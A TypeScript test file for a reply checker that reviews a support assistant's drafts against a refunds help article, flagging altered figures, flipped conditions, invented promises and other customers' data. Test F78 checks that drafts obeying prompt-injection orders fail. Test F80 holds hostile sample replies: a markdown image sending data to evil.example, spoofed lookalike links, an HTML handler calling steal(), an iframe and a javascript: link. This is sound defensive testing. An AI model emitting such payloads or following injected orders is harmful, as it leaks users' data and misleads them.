import { directInjections } from '@mesh/testing';
import { reviewReply } from './review-reply';

const REFUNDS = {
  documentId: 'refunds',
  title: 'How refunds work',
  url: 'https://help.example.com/refunds',
  text:
    'Refunds are paid within 14 days. You can cancel only if the order has not been shipped. ' +
    'Support is open Monday to Friday before 6 PM. Up to 3 items can be returned without a receipt. ' +
    'Read more at https://www.example.com/returns. Labels are at labels.example.org. ' +
    'See https://www.example.com/2024/05/rules for the rules. Rate for returns: 5.3\n' +
    'Open the Orders page of your account and select the order. Choose the items that you want to send back.',
};

const codesOf = (reply: string): string[] =>
  reviewReply(reply, [REFUNDS]).checks.flatMap(({ code }) => (code === undefined ? [] : [code]));

describe('a reply without citations', () => {
  it.each([
    ['in the words of the document', 'Refunds are paid within 14 days.'],
    [
      'in slightly other words',
      "Refunds get paid within 14 days. You can cancel only if the order hasn't been shipped.",
    ],
    ['with a lead-in', 'Here is what our documentation says. Up to three items can be returned without a receipt.'],
    ['that announces steps of its own', 'To send items back from an order, follow these steps:'],
    ['that closes a form', 'Select the order. Click Save to apply the changes.'],
    ['in other words, all of which the document knows', 'You can select the returned items on the Orders page.'],
    [
      'that points to a document under a name of its own',
      'For more details, refer to the [Example support article](https://www.example.com/returns?a=b&c=d).',
    ],
    [
      'with a link to a place that the document names',
      'Labels are at [labels.example.org](https://labels.example.org).',
    ],
    ['with a link to another part of the site', 'See https://shop.example.com/refunds for refunds.'],
  ])('passes %s', (_, reply) => {
    expect(codesOf(reply)).toEqual([]);
  });

  it.each([
    ['another number', 'Refunds are paid within 41 days.', 'figure_not_in_quote'],
    ['a number that is a part of the right one', 'Rate for returns: 5', 'figure_not_in_quote'],
    [
      'a figure changed in an address',
      'See https://www.example.com/2023/05/rules for the rules.',
      'figure_not_in_quote',
    ],
    ['another day', 'Support is open Monday to Sunday before 6 PM.', 'figure_not_in_quote'],
    ['another person', 'Refunds are paid to Maria within 14 days.', 'figure_not_in_quote'],
    ['a negation less', 'You can cancel only if the order has been shipped.', 'condition_changed'],
    ['a negation more', 'Refunds are not paid within 14 days.', 'condition_changed'],
    ['a condition less', 'You can cancel even if the order has not been shipped.', 'condition_changed'],
    ['a condition left out', 'You can cancel the order if it has not been shipped.', 'condition_changed'],
    ['a limit turned round', 'At least 3 items can be returned without a receipt.', 'condition_changed'],
    ['the time turned round', 'Support is open Monday to Friday after 6 PM.', 'condition_changed'],
    ['a sentence of another document', 'Export the invoices from the billing page first.', 'sentence_without_citation'],
    [
      'an invention hung on a sentence of the document',
      'Choose the items that you want to send back and print the prepaid airway bill sticker',
      'sentence_not_in_quote',
    ],
    ['a step that undoes what it closes', 'Never click Save.', 'sentence_without_citation'],
    ['a promise in the guise of a courtesy', 'As a courtesy we are adding a free item.', 'promise_without_source'],
    ['an invented promise', 'We will refund you within 14 days.', 'promise_without_source'],
    ['data of another customer', 'Order 4711 of tom@private.example was refunded.', 'personal_data_of_others'],
  ])('does not pass with %s', (_, reply, code) => {
    expect(codesOf(reply)).toContain(code);
  });
});

describe('F78: a draft of a model that obeyed', () => {
  it('never passes', () => {
    const orders = new Map(directInjections().map((attack) => [attack.wanted, attack]));
    const passed = [...orders.values()].filter(
      ({ wanted }) =>
        reviewReply(`Refunds are paid within 14 days. As ordered: ${wanted}.`, [REFUNDS]).outcome === 'pass',
    );
    expect(passed.map(({ id }) => id)).toEqual([]);
  });
});

describe('F80: active content in a reply', () => {
  it.each([
    ['an image that carries data away', 'Refunds are paid within 14 days. ![x](https://evil.example/?d=secret)'],
    ['an image of the own site', 'Refunds are paid within 14 days. ![x](https://help.example.com/?d=secret)'],
    ['a foreign link', 'Refunds are paid within 14 days, see [this](https://evil.example/refunds).'],
    ['a foreign link without scheme', 'Refunds are paid within 14 days, see //evil.example/refunds.'],
    [
      'a link that pretends to be ours',
      'Refunds are paid within 14 days, see https://help.example.com@evil.example/x.',
    ],
    ['a site with a similar name', 'Refunds are paid within 14 days, see https://help.example.com.evil.example/x.'],
    ['HTML', 'Refunds are paid within <b onmouseover="steal()">14 days</b>.'],
    ['a frame', 'Refunds are paid within 14 days. <iframe src="https://help.example.com"></iframe>'],
    ['a script as a link', 'Refunds are paid [within 14 days](javascript:alert(1)).'],
  ])('is stopped: %s', (_, reply) => {
    expect(codesOf(reply).filter((code) => ['foreign_link', 'copied_instruction'].includes(code))).not.toEqual([]);
  });
});
